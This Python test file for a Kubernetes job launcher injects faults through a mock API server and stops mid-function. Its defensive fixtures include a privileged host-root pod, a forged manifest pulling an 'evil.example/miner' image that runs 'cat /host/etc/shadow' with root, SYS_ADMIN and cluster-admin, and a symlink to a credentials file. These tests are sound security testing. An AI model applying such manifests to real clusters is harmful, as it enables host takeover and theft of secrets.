"""The launcher service against kmock (real HTTP, the real `kubernetes` client), with faults
injected through kmock's own reactions: what it submits, what it deletes, what it never loses."""

from __future__ import annotations

import json
import math
import shutil
import socket
import threading
from pathlib import Path
from typing import ClassVar

import pytest
import yaml

from launcher import bundle_key
from launcher.backends.kube_api import Backoff
from launcher.manifest_check import OWNER_LABEL
from launcher.service import owner_id
from launcher.state import JobStore

kmock = pytest.importorskip("kmock")

NAMESPACE = "ml"
FAST = Backoff(attempts=4, base_s=0.01, cap_s=0.02)
JOBS = f"/apis/batch/v1/namespaces/{NAMESPACE}/jobs"
PRICE = 55.04  # aws-p5 on-demand $/node-hour (profiles/offerings/aws-p5.yaml), 2 nodes


@pytest.fixture(autouse=True)
def _fast_retries(monkeypatch):
    monkeypatch.setattr("launcher.backends.kube_api.DEFAULT_BACKOFF", FAST)
    monkeypatch.setattr("launcher.backends.kube_logs.FOLLOW_START_POLL_S", 0.01)
    monkeypatch.setattr("launcher.monitor.OUTAGE_RETRY_CAP_S", 0.05)


@pytest.fixture
def gpus(cluster):
    cluster.add_gpu_node("gpu-0", 8)
    cluster.add_gpu_node("gpu-1", 8)


def _labelled(cluster, job: str = "eva-test") -> list[str]:
    out = []
    for res in ("v1/configmaps", "v1/services", "batch/v1/jobs", "v1/secrets", "v1/pods"):
        try:
            objs = cluster.objects(res)
        except Exception:  # a resource kmock was not told about
            continue
        for (_, name), o in objs.items():
            if (o.get("metadata", {}).get("labels") or {}).get("evaplan.io/job") == job:
                out.append(f"{res}/{name}")
    return sorted(out)


def _pod(name: str, index: int, *, phase: str = "Running", status: dict | None = None) -> dict:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": name,
            "namespace": NAMESPACE,
            "resourceVersion": "1",
            "creationTimestamp": "2026-11-27T10:00:00Z",
            "labels": {"evaplan.io/job": "eva-test", "batch.kubernetes.io/job-completion-index": str(index)},
        },
        "spec": {"nodeName": f"gpu-{index}", "containers": [{"name": "trainer"}]},
        "status": {"phase": phase, **(status or {})},
    }


def _set_condition(cluster, job: dict, condition: str, **extra: str) -> None:
    """The Job eva-test as the controller reports it: one condition (Suspended, Complete, Failed)."""
    status = {"conditions": [{"type": condition, "status": "True", **extra}]}
    cluster.put("batch/v1/jobs", NAMESPACE, "eva-test", {**job, "status": status})


def _launch(cli, bundle: Path, kubeconfig: Path, *extra: str):
    return cli("launch", str(bundle), "--kubeconfig", str(kubeconfig), *extra)


# --------------------------------------------------------------------------- submit only what was rendered
def _rewrite(bundle: Path, edit) -> None:
    docs = [d for d in yaml.safe_load_all((bundle / "manifests.yaml").read_text()) if d]
    docs = edit(docs)
    (bundle / "manifests.yaml").write_text(yaml.safe_dump_all(docs))


PRIVILEGED_POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "root", "namespace": "kube-system", "labels": {"evaplan.io/job": "eva-test"}},
    "spec": {
        "hostNetwork": True,
        "hostPID": True,
        "containers": [{"name": "x", "image": "busybox", "securityContext": {"privileged": True}}],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    },
}
SECRET = {
    "apiVersion": "v1",
    "kind": "Secret",
    "metadata": {"name": "stolen", "namespace": NAMESPACE, "labels": {"evaplan.io/job": "eva-test"}},
    "stringData": {"k": "v"},
}


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda docs: [*docs, SECRET, PRIVILEGED_POD], "holds 5 objects but evaplan rendered 3"),
        (lambda docs: [SECRET, *docs[1:]], "a kind evaplan does not render"),
        (
            lambda docs: [
                *docs[:2],
                {**docs[2], "metadata": {**docs[2]["metadata"], "namespace": "kube-system"}},
            ],
            "not the job's namespace",
        ),
        (
            lambda docs: [*docs[:2], {**docs[2], "spec": {**docs[2]["spec"], "parallelism": 64}}],
            "differs from what evaplan rendered",
        ),
    ],
)
def test_launch_refuses_manifests_it_did_not_render(
    edit, message, cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory, resign
):
    """An edited manifests.yaml fails its sha256; and for whoever holds the key (who can re-sign
    bundle.json but did not recompute its object digests), each object is checked again."""
    bundle = bundle_factory(tmp_path / "b")
    _rewrite(bundle, edit)
    for flags in ((), ("--dry-run",)):
        r = _launch(cli, bundle, kubeconfig, *flags)
        assert r.exit_code == 2 and "manifests.yaml was changed since evaplan rendered it" in r.output
    resign(bundle)
    for flags in ((), ("--dry-run",)):
        r = _launch(cli, bundle, kubeconfig, *flags)
        assert r.exit_code == 2 and message in r.output and "Traceback" not in r.output, r.output
    assert not cluster.requests("POST", "/api") and JobStore().find("eva-test") is None


def _forge(bundle: Path, edit) -> None:
    """An attacker with write access to the bundle folder only: edit the manifests, then recompute
    every digest bundle.json holds (object digests and file sha256), as anyone can."""
    import hashlib

    from launcher.manifest_check import object_digest

    docs = edit([d for d in yaml.safe_load_all((bundle / "manifests.yaml").read_text()) if d])
    (bundle / "manifests.yaml").write_text(yaml.safe_dump_all(docs))
    meta = json.loads((bundle / "bundle.json").read_text())
    meta["object_digests"] = [object_digest(d) for d in docs]
    meta["file_sha256"] = {
        n: hashlib.sha256((bundle / n).read_bytes()).hexdigest() for n in meta["file_sha256"]
    }
    (bundle / "bundle.json").write_text(json.dumps(meta))


def _take_the_host(docs: list[dict]) -> list[dict]:
    """The issue's attack: another image and command, hostPath / as `nvme`, root with SYS_ADMIN,
    an admin service account, seccomp Unconfined."""
    spec = docs[-1]["spec"]["template"]["spec"]
    c = spec["containers"][0]
    c["image"], c["command"] = "evil.example/miner:1", ["sh", "-c", "cat /host/etc/shadow"]
    c["securityContext"] = {"allowPrivilegeEscalation": True, "capabilities": {"add": ["SYS_ADMIN"]}}
    c["volumeMounts"].append({"name": "nvme", "mountPath": "/host"})
    spec["volumes"].append({"name": "nvme", "hostPath": {"path": "/"}})
    spec["securityContext"] = {"runAsUser": 0, "seccompProfile": {"type": "Unconfined"}}
    spec["serviceAccountName"] = "cluster-admin"
    return docs


def test_a_bundle_edited_with_recomputed_digests_is_refused(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    bundle = bundle_factory(tmp_path / "b")
    _forge(bundle, _take_the_host)
    for backend in ("kubernetes", "local"):
        for flags in ((), ("--dry-run",)):
            args = ("--backend", backend) if backend == "local" else ("--kubeconfig", str(kubeconfig))
            r = cli("launch", str(bundle), *args, *flags)
            assert r.exit_code == 2 and "Traceback" not in r.output, r.output
            assert "not signed with this job store's key" in r.output, r.output
    assert not cluster.requests("POST", "/api") and JobStore().find("eva-test") is None


def test_a_bundle_from_another_job_store_is_refused(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory, monkeypatch
):
    """The key lives in the job store (0600): a bundle signed with another store's key is refused,
    one signed with this store's key launches."""
    monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / "elsewhere"))
    foreign = bundle_factory(tmp_path / "foreign")
    monkeypatch.setenv("EVAPLAN_STATE_DIR", str(state_dir))
    r = _launch(cli, foreign, kubeconfig)
    assert r.exit_code == 2 and "not signed with this job store's key" in r.output
    assert "re-render it" in r.output and not cluster.requests("POST", "/api")
    key = state_dir / "bundle-key"
    mine, again = bundle_factory(tmp_path / "mine"), bundle_factory(tmp_path / "again", job_name="eva-two")
    r = _launch(cli, mine, kubeconfig)
    assert r.exit_code == 0, r.output
    assert key.stat().st_mode & 0o777 == 0o600
    key.chmod(0o644)  # a key others can read proves nothing
    r = _launch(cli, again, kubeconfig)
    assert r.exit_code == 2 and "readable by others" in r.output and str(key) in r.output


CREDENTIALS = "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE\n"


@pytest.mark.parametrize("victim", ["manifests.yaml", "run_config.json", "bundle.json", "ds_config.json"])
def test_a_bundle_file_that_is_a_symlink_is_refused_without_quoting_it(
    victim, cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    creds = tmp_path / "credentials"
    creds.write_text(CREDENTIALS)
    bundle = bundle_factory(tmp_path / "b")
    (bundle / victim).unlink()
    (bundle / victim).symlink_to(creds)
    for backend in ("kubernetes", "local"):
        args = ("--backend", backend) if backend == "local" else ("--kubeconfig", str(kubeconfig))
        r = cli("launch", str(bundle), *args)
        assert r.exit_code == 2 and "Traceback" not in r.output, r.output
        assert f"{bundle / victim} is a symbolic link" in r.output
        assert "AKIA" not in r.output and "wJalr" not in r.output and "default" not in r.output


@pytest.mark.parametrize(
    ("victim", "content"),
    [
        ("manifests.yaml", CREDENTIALS),
        ("manifests.yaml", "key: 'wJalrXUtnFEMI/K7MDENG\n  [unclosed: AKIAIOSFODNN7EXAMPLE\n"),
        ("run_config.json", CREDENTIALS),
        ("bundle.json", '{"format": 1, "job_name": "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI"}'),
        ("run_config.json", '{"job_name": "eva-test", "AKIAIOSFODNN7EXAMPLE": "wJalrXUtnFEMI"}'),
    ],
)
def test_no_error_quotes_the_content_of_a_bundle_file(
    victim, content, cli, state_dir, tmp_path, bundle_factory
):
    bundle = bundle_factory(tmp_path / "b")
    (bundle / victim).write_text(content)
    r = cli("launch", str(bundle), "--backend", "local", "--dry-run")
    assert r.exit_code == 2 and "Traceback" not in r.output, r.output
    assert "AKIA" not in r.output and "wJalr" not in r.output, r.output


def test_every_object_and_pod_carries_the_owner_label(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    r = _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig)
    assert r.exit_code == 0, r.output
    owner = owner_id()
    assert (state_dir / "owner-id").read_text().strip() == owner and owner_id() == owner  # stable
    job = cluster.objects("batch/v1/jobs")[(NAMESPACE, "eva-test")]
    assert job["metadata"]["labels"][OWNER_LABEL] == owner
    assert job["spec"]["template"]["metadata"]["labels"][OWNER_LABEL] == owner
    for res in ("v1/configmaps", "v1/services"):
        assert all(o["metadata"]["labels"][OWNER_LABEL] == owner for o in cluster.objects(res).values())


def test_replace_refuses_another_teams_job(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    theirs = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": "eva-test", "namespace": NAMESPACE, "labels": {"team": "b"}},
        "spec": {"template": {"spec": {"containers": [{"name": "x", "image": "busybox"}]}}},
    }
    cluster.put("batch/v1/jobs", NAMESPACE, "eva-test", theirs)
    bundle = bundle_factory(tmp_path / "b")
    r = _launch(cli, bundle, kubeconfig, "--replace")
    assert r.exit_code == 2
    assert (
        "Job/eva-test in namespace ml was not created by this job store (no evaplan owner label)" in r.output
    )
    assert not cluster.requests("DELETE", "/api")
    assert cluster.objects("batch/v1/jobs")[(NAMESPACE, "eva-test")]["metadata"]["labels"] == {"team": "b"}
    # Another store's evaplan job of the same name is someone else's too.
    theirs["metadata"]["labels"] = {"evaplan.io/job": "eva-test", OWNER_LABEL: "0" * 20}
    cluster.put("batch/v1/jobs", NAMESPACE, "eva-test", theirs)
    r = _launch(cli, bundle, kubeconfig, "--replace")
    assert r.exit_code == 2 and f"owner {'0' * 20}" in r.output and not cluster.requests("DELETE", "/api")


def test_replace_deletes_only_its_own_objects(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    bundle = bundle_factory(tmp_path / "b")
    assert _launch(cli, bundle, kubeconfig).exit_code == 0
    r = _launch(cli, bundle, kubeconfig, "--replace")
    assert r.exit_code == 0, r.output
    assert cluster.requests("DELETE", f"{JOBS}/eva-test")
    assert set(cluster.objects("batch/v1/jobs")) == {(NAMESPACE, "eva-test")}


# --------------------------------------------------------------------------- never lose sight of a job
def _drop(request):  # the server closes the TCP connection without answering
    request._raw_request.transport.close()
    return b""


def test_a_lost_create_reply_is_cleaned_up_by_label(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    # kmock stores the Job, then the reply never arrives; the retry's 409 is checked with a GET
    # whose reply is lost too: launch fails, and the clean-up finds the Job by its labels
    # although no create ever answered.
    posted: list[bool] = []

    def lost(request):
        posted.append(True)
        return _drop(request)

    cluster.do(lambda: cluster.handler["post", JOBS, lambda req: not req.params.get("dryRun")] << lost)
    cluster.do(lambda: cluster.handler["get", f"{JOBS}/eva-test", lambda req: bool(posted)] << _drop)
    r = _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig)
    assert r.exit_code == 1 and "connection failed" in r.output
    assert _labelled(cluster) == []
    assert JobStore().find("eva-test") is None  # nothing left, so the intent was dropped too


def test_a_failing_rollback_does_not_hide_the_error(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    forbidden = {"kind": "Status", "message": 'jobs.batch is forbidden: User "tester" cannot create resource'}
    cluster.do(
        lambda: cluster.handler["post", JOBS, lambda req: not req.params.get("dryRun")] << 403 << forbidden
    )
    etcd_down = [True]
    # The clean-up's look-up by label fails (kmock applies a DELETE even when it answers 500).
    cluster.do(
        lambda: (
            cluster.handler["get", lambda req: etcd_down[0] and "labelSelector" in req.params]
            << 500
            << {"kind": "Status", "message": "etcd down"}
        )
    )
    r = _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig)
    assert r.exit_code == 2
    assert "forbidden (403)" in r.output and "removing what was created failed too" in r.output
    assert "`evaplan stop eva-test` removes it" in r.output
    # The job is not lost: list shows it, stop removes what was created.
    listing = cli("list")
    assert "eva-test" in listing.output and "creating (interrupted)" in listing.output
    etcd_down[0] = False
    r = cli("stop", "eva-test")
    assert r.exit_code == 0, r.output
    assert _labelled(cluster) == []


class SimulatedKill(BaseException):
    """SIGKILL of `launch` at an API call: no Python code of the launcher runs after it."""


def _count_launch_calls(cli, bundle, kubeconfig, monkeypatch, flags: tuple[str, ...]) -> int:
    from launcher.backends import kube_api

    calls = []
    real = kube_api.KubeApi._send

    def counting(self, *a, **k):
        calls.append(a[:2])
        return real(self, *a, **k)

    if flags:
        assert _launch(cli, bundle, kubeconfig).exit_code == 0  # something to replace
    monkeypatch.setattr(kube_api.KubeApi, "_send", counting)
    assert _launch(cli, bundle, kubeconfig, *flags).exit_code == 0
    monkeypatch.setattr(kube_api.KubeApi, "_send", real)
    stopped = cli("stop", "eva-test")
    assert stopped.exit_code == 0, stopped.output
    return len(calls)


@pytest.mark.parametrize(("mode", "flags"), [("kill", ()), ("interrupt", ()), ("kill", ("--replace",))])
def test_interrupting_launch_at_every_api_call_loses_nothing(
    mode, flags, cli, cluster, gpus, kubeconfig, tmp_path, monkeypatch, bundle_factory
):
    """Property: whichever API call `launch` (or `launch --replace`) is interrupted at (SIGKILL:
    nothing runs after it; ^C/SIGTERM: the launch unwinds), afterwards `list` shows the job
    whenever anything of it is in the cluster, and `stop` removes every object carrying its label."""
    from launcher.backends import kube_api

    bundle = bundle_factory(tmp_path / "b")
    key = bundle_key.key_path()  # each fresh job store below shares the key the bundle was signed with

    def fresh_store(name: str) -> None:
        (tmp_path / name).mkdir()
        shutil.copy2(key, bundle_key.key_path(tmp_path / name))
        monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / name))

    fresh_store("count")
    total = _count_launch_calls(cli, bundle, kubeconfig, monkeypatch, flags)
    assert total >= 9  # gets, preflight lists, dry runs, (deletes,) creates
    real = kube_api.KubeApi._send
    for k in range(total):
        fresh_store(f"state-{mode}-{len(flags)}-{k}")
        if flags:
            assert _launch(cli, bundle, kubeconfig).exit_code == 0  # the job it replaces
        seen = [0]
        dead = [False]

        def faulty(self, *a, _k=k, _seen=seen, _dead=dead, **kw):
            if _dead[0]:
                raise SimulatedKill  # a killed process makes no more calls
            _seen[0] += 1
            if _seen[0] == _k + 1:
                if mode == "kill":
                    _dead[0] = True
                    raise SimulatedKill
                raise KeyboardInterrupt
            return real(self, *a, **kw)

        monkeypatch.setattr(kube_api.KubeApi, "_send", faulty)
        try:
            r = _launch(cli, bundle, kubeconfig, *flags)
            outcome = r.exit_code
        except SimulatedKill:
            outcome = "killed"
        monkeypatch.setattr(kube_api.KubeApi, "_send", real)
        assert outcome in ("killed", 130), (k, outcome)
        left = _labelled(cluster)
        listing = cli("list")
        if left:
            assert "eva-test" in listing.output, (k, left, listing.output)
        if "eva-test" in listing.output:
            r = cli("stop", "eva-test")
            assert r.exit_code == 0, (k, r.output)
        assert _labelled(cluster) == [], (k, mode)


def test_sigterm_during_create_rolls_back(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, monkeypatch, bundle_factory
):
    import os
    import signal

    from launcher.backends import kube_api

    real = kube_api.KubeApi._send

    def term_on_job_create(self, method, path, query, *a, **k):
        if method == "POST" and path == JOBS and not query:
            os.kill(os.getpid(), signal.SIGTERM)  # arrives while the Job is being created
        return real(self, method, path, query, *a, **k)

    monkeypatch.setattr(kube_api.KubeApi, "_send", term_on_job_create)
    r = _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig)
    assert r.exit_code == 130 and "interrupted" in r.output
    assert _labelled(cluster) == [] and JobStore().find("eva-test") is None
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL


# --------------------------------------------------------------------------- the budget
def test_budget_below_the_estimate_needs_force(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    bundle = bundle_factory(tmp_path / "b")
    estimate = json.loads((bundle / "plan.json").read_text())["cost"]["prices"][0]["total_usd"]
    r = _launch(cli, bundle, kubeconfig, "--max-cost", "2")
    assert (
        r.exit_code == 2
        and f"below this job's own estimate ${estimate:,.2f}" in r.output
        and "--force" in r.output
    )
    assert not cluster.requests("POST", "/api")
    r = _launch(cli, bundle, kubeconfig, "--max-cost", "2", "--force")
    assert r.exit_code == 0, r.output
    # The cluster enforces it: 2 nodes × $55.04/node-hour buy floor(2 / 110.08 × 3600) s of running.
    deadline = math.floor(2 / (2 * PRICE) * 3600)
    job = cluster.objects("batch/v1/jobs")[(NAMESPACE, "eva-test")]
    assert job["spec"]["activeDeadlineSeconds"] == deadline
    assert f"activeDeadlineSeconds {deadline}" in r.output


def test_a_tiny_budget_on_a_new_job_says_what_it_buys(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    r = _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig, "--max-cost", "0.01", "--force")
    # 2 nodes × $55.04/node-hour = $0.0306 a second: a cent buys a third of one.
    assert r.exit_code == 2 and "$0.01 buys less than one second of running" in r.output, r.output
    assert "earlier runs" not in r.output and "--max-cost of at least $0.04" in r.output
    assert not cluster.requests("POST", "/api") and JobStore().find("eva-test") is None


@pytest.mark.parametrize(
    ("flavor", "resource", "where"),
    [
        ("pytorchjob", "kubeflow.org/v1/pytorchjobs", lambda o: [o["spec"]["runPolicy"]]),
        (
            "jobset",
            "jobset.x-k8s.io/v1alpha2/jobsets",
            lambda o: [rj["template"]["spec"] for rj in o["spec"]["replicatedJobs"]],
        ),
    ],
)
def test_every_flavour_takes_the_deadline(
    flavor, resource, where, cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    _, plural = resource.rsplit("/", 1)
    kind = {"pytorchjobs": "PyTorchJob", "jobsets": "JobSet"}[plural]
    cluster.do(
        lambda: cluster.handler.resources.__setitem__(
            resource, kmock.ResourceInfo(kind=kind, namespaced=True)
        )
    )
    r = _launch(cli, bundle_factory(tmp_path / "b", flavor=flavor), kubeconfig, "--max-cost", "100")
    assert r.exit_code == 0, r.output
    (obj,) = cluster.objects(resource).values()
    assert [h["activeDeadlineSeconds"] for h in where(obj)] == [math.floor(100 / (2 * PRICE) * 3600)]
    if flavor == "jobset":  # a child Job past its deadline fails the JobSet, not restarts it
        assert obj["spec"]["failurePolicy"]["rules"][0] == {
            "name": "budgetDeadline",
            "action": "FailJobSet",
            "onJobFailureReasons": ["DeadlineExceeded"],
        }


@pytest.mark.parametrize("flavor", ["indexed-job", "pytorchjob", "jobset"])
def test_launched_objects_still_match_their_schema(flavor, tmp_path, bundle_factory, shared_dir):
    """What launch adds (owner label, deadline, JobSet rule) keeps each object valid for its CRD."""
    jsonschema = pytest.importorskip("jsonschema")
    kv = pytest.importorskip("kubernetes_validate")
    from launcher.backends.kubernetes import label_owned
    from launcher.bundle import read_bundle

    crds = {}
    for f in (shared_dir / "k8s-crds").glob("*.yaml"):
        crd = yaml.safe_load(f.read_text())
        for v in crd["spec"]["versions"]:
            crds[(crd["spec"]["names"]["kind"], f"{crd['spec']['group']}/{v['name']}")] = v["schema"][
                "openAPIV3Schema"
            ]
    for obj in read_bundle(bundle_factory(tmp_path / "b", flavor=flavor)).manifests:
        out = label_owned(obj, "a" * 20, 3600)
        schema = crds.get((out["kind"], out["apiVersion"]))
        if schema is not None:
            jsonschema.Draft7Validator(schema).validate(out)
        else:
            kv.validate(out, "1.30", strict=True)


def test_queued_time_costs_nothing_and_spend_stops_with_the_pods(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig, "--max-cost", "50").exit_code == 0
    _created_at("2026-11-27T09:00:00+00:00")  # the pods' times below are after it
    job = cluster.objects("batch/v1/jobs")[(NAMESPACE, "eva-test")]
    _set_condition(cluster, job, "Suspended")
    doc = json.loads(cli("status", "eva-test", "-o", "json").output)
    assert doc["phase"] == "Pending" and doc["progress"]["spent_usd"] == 0.0  # Kueue holds it: free
    # Admitted: both pods ran 10:00 → 10:30, then rank 1 failed and the Job failed.
    ran = {"startedAt": "2026-11-27T10:00:00Z", "finishedAt": "2026-11-27T10:30:00Z"}
    for i, code in ((0, 0), (1, 1)):
        pod = _pod(f"eva-test-{i}", i, phase="Failed" if code else "Succeeded")
        pod["status"]["containerStatuses"] = [
            {"name": "trainer", "state": {"terminated": {"exitCode": code, **ran}}}
        ]
        cluster.put("v1/pods", NAMESPACE, f"eva-test-{i}", pod)
    _set_condition(cluster, job, "Failed", reason="BackoffLimitExceeded")
    half_hour = 2 * 0.5 * PRICE
    for _ in range(2):  # asked twice: a failed job's spend does not grow
        doc = json.loads(cli("status", "eva-test", "-o", "json").output)
        assert doc["phase"] == "Failed" and doc["progress"]["spent_usd"] == pytest.approx(half_hour)
    assert "rank 1" in doc["message"]
    # After a stop the pods are gone; the bill they ran up stays.
    stopped = cli("stop", "eva-test")
    assert stopped.exit_code == 0, stopped.output
    rec = JobStore().get("eva-test")
    assert rec.plan["run_node_s"] == pytest.approx(3600.0)
    assert "$55.04" in cli("list").output


def _created_at(iso: str, job: str = "eva-test") -> None:
    """Move the job's recorded creation time (the tests' pods carry fixed times)."""
    from datetime import datetime

    store = JobStore()
    store.put(store.get(job).with_(created_at=datetime.fromisoformat(iso)))


def _running_pods(cluster, since: str) -> None:
    for i in (0, 1):
        pod = _pod(f"eva-test-{i}", i)
        pod["status"]["containerStatuses"] = [{"name": "trainer", "state": {"running": {"startedAt": since}}}]
        cluster.put("v1/pods", NAMESPACE, f"eva-test-{i}", pod)


def test_spend_starts_at_the_jobs_own_creation(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    from datetime import datetime, timedelta, timezone

    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig, "--max-cost", "50").exit_code == 0
    created = JobStore().get("eva-test").created_at
    # A node whose clock runs ten hours behind (or a pod of an earlier job of this name) reports
    # containers started long before this job existed: none of that time is billed.
    _running_pods(cluster, (created - timedelta(hours=10)).strftime("%Y-%m-%dT%H:%M:%SZ"))
    doc = json.loads(cli("status", "eva-test", "-o", "json").output)
    ran_s = (datetime.now(timezone.utc) - created).total_seconds()
    assert doc["progress"]["spent_usd"] <= 2 * PRICE * (ran_s + 60) / 3600, doc["progress"]


def test_status_and_list_flag_a_job_running_past_its_budget(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    # The cluster did not enforce the deadline (kmock has no Job controller, like a cluster whose
    # controller is down): both pods have run an hour on a $50 budget at 2 × $55.04/node-hour.
    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig, "--max-cost", "50").exit_code == 0
    _created_at("2026-12-01T09:00:00+00:00")
    _running_pods(cluster, "2026-12-01T09:01:00Z")
    r = cli("status", "eva-test")
    assert r.exit_code == 0 and "WARNING: running past its budget" in r.output, r.output
    assert "`evaplan stop eva-test` ends it" in r.output
    assert json.loads(cli("status", "eva-test", "-o", "json").output)["past_budget"]
    assert "PAST ITS BUDGET" in cli("list").output


def test_watch_survives_an_api_outage(cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory):
    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig).exit_code == 0
    job = cluster.objects("batch/v1/jobs")[(NAMESPACE, "eva-test")]
    _set_condition(cluster, job, "Complete")
    # Four whole calls' worth of 503s (4 attempts each): more than one call's retries can absorb.
    seen = len(cluster.requests("GET", f"{JOBS}/eva-test"))  # kmock's slices count these too
    cluster.do(
        lambda: (
            cluster.handler["get", f"{JOBS}/eva-test"][seen : seen + 16]
            << 503
            << {"kind": "Status", "message": "down"}
        )
    )
    r = cli("watch", "eva-test", "--interval", "0.1")
    assert r.exit_code == 0, r.output
    assert r.output.count("did not answer") == 1 and "answers again" in r.output
    assert r.output.rstrip().endswith("eva-test: Succeeded")


def test_retry_after_is_honoured(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory, monkeypatch
):
    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig).exit_code == 0
    waits: list[float] = []
    monkeypatch.setattr("launcher.backends.kube_api.time.sleep", waits.append)
    # kmock's slices count the requests a filter has matched so far, earlier ones included.
    seen = len(cluster.requests("GET", f"{JOBS}/eva-test"))
    cluster.do(
        lambda: (
            cluster.handler["get", f"{JOBS}/eva-test"][seen : seen + 1]
            << kmock.headers({"Retry-After": "3"})
            << 429
            << {"kind": "Status", "message": "too many requests"}
        )
    )
    r = cli("status", "eva-test", "-o", "json")
    assert r.exit_code == 0, r.output
    assert waits == [3.0]  # the server's 3 s, not the 0.01-0.02 s of the backoff schedule
    # A Retry-After beyond what one call may wait ends the call with when to retry.
    seen = len(cluster.requests("GET", f"{JOBS}/eva-test"))
    cluster.do(
        lambda: (
            cluster.handler["get", f"{JOBS}/eva-test"][seen : seen + 1]
            << kmock.headers({"Retry-After": "600"})
            << 503
            << {}
        )
    )
    r = cli("status", "eva-test")
    assert r.exit_code == 1 and "retry after 600s" in r.output


class HungServer:
    """Accepts connections on 127.0.0.1 and never answers (a hung API server)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[socket.socket] = []
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted.append(conn)
            self._serve(conn)

    def _serve(self, conn: socket.socket) -> None:
        """What happens on a connection: nothing (a hung server)."""

    def close(self) -> None:
        self._stop.set()
        self.thread.join(timeout=10)
        for c in self.accepted:
            c.close()
        self.sock.close()


class TricklingServer(HungServer):
    """Answers 200 at once, then sends the announced body one byte at a time, never finishing
    (a slow proxy, or an attacker holding the client)."""

    def _serve(self, conn: socket.socket) -> None:
        threading.Thread(target=self._trickle, args=(conn,), daemon=True).start()

    def _trickle(self, conn: socket.socket) -> None:
        try:
            conn.recv(65536)
            conn.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"
            )
            while not self._stop.wait(0.05):  # well inside the per-read timeout, forever
                conn.sendall(b" ")
        except OSError:
            pass


def _kubeconfig_for(path: Path, server: str, name: str = "c") -> Path:
    path.write_text(
        json.dumps(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "current-context": name,
                "clusters": [{"name": name, "cluster": {"server": server}}],
                "users": [{"name": "u", "user": {"token": "t"}}],
                "contexts": [{"name": name, "context": {"cluster": name, "user": "u", "namespace": "ml"}}],
            }
        )
    )
    return path


def test_a_trickling_reply_cannot_hold_a_call_past_its_budget(tmp_path):
    from launcher.backends.kube_api import KubeApi, Unreachable

    server = TricklingServer()
    try:
        api = KubeApi(
            kubeconfig=str(_kubeconfig_for(tmp_path / "k.yaml", f"http://127.0.0.1:{server.port}")),
            backoff=FAST,
            request_timeout_s=0.5,
            call_budget_s=1.0,
        )
        outcome: list[BaseException | object] = []

        def call() -> None:
            try:
                outcome.append(api.request("GET", "/api/v1/namespaces/ml/pods"))
            except BaseException as e:
                outcome.append(e)

        t = threading.Thread(target=call, daemon=True)
        t.start()
        t.join(timeout=20.0)  # a bound for the failing case only: the fixed call ends after ~1 s
        assert not t.is_alive(), "a reply trickling a byte every 50 ms held the call past its 1 s budget"
        assert isinstance(outcome[0], Unreachable) and "did not arrive within" in str(outcome[0])
    finally:
        server.close()


class TricklingLogServer(TricklingServer):
    """Answers the job's GET and its pod list at once; trickles the pod's log forever."""

    JOB: ClassVar[dict] = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": "j", "namespace": "ml"},
        "status": {},
    }
    POD: ClassVar[dict] = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "j-0",
            "namespace": "ml",
            "labels": {"evaplan.io/job": "j", "batch.kubernetes.io/job-completion-index": "0"},
        },
        "spec": {"containers": [{"name": "trainer"}]},
        "status": {"phase": "Running"},
    }

    def _trickle(self, conn: socket.socket) -> None:
        try:
            path = conn.recv(65536).split(b" ", 2)[1].decode()
            if "/log" not in path:
                body = json.dumps(self.JOB if path.endswith("/jobs/j") else {"items": [self.POD]}).encode()
